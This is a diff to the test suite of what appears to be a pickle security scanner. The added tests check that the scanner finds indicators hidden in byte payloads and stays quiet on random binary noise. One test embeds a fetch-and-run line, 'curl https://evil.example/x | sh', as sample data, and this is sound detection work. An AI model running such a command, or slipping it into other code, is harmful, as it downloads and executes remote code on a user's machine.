@@ -7,6 +7,7 @@ import bz2
 import gzip
 import lzma
 import pickle
+import struct
 import zlib
 
 import pytest
@@ -372,3 +373,26 @@ def test_unpickler_object_load_is_a_nested_loader() -> None:
 )
 def test_deferred_callbacks_count_as_calls(deferred: bytes) -> None:
     assert "os.system" in subjects(P2 + deferred + pickle.STOP)
+
+
+def _short_binbytes(data: bytes) -> bytes:
+    return pickle.SHORT_BINBYTES + bytes([len(data)]) + data
+
+
+def test_indicators_in_byte_payloads_are_found_in_their_printable_runs() -> None:
+    import os as _os
+
+    noise = bytes(b ^ 0x80 for b in _os.urandom(60))  # high bytes only: never printable
+    payload = noise[:30] + b"curl https://evil.example/x | sh" + noise[30:]
+    analysis = analyse(P2 + _short_binbytes(payload[:255]) + pickle.STOP)
+    found = {i.value for f in analysis.findings for i in f.indicators}
+    assert "https://evil.example/x" in found
+
+
+def test_binary_noise_in_large_byte_payloads_raises_no_indicator() -> None:
+    import random
+
+    rng = random.Random(7)
+    blob = bytes(rng.getrandbits(8) for _ in range(200_000))  # array-like bytes: beyond LARGE_PAYLOAD
+    data = P2 + pickle.BINBYTES + struct.pack("<I", len(blob)) + blob + pickle.STOP
+    assert not [f for f in analyse(data).findings if f.indicators]
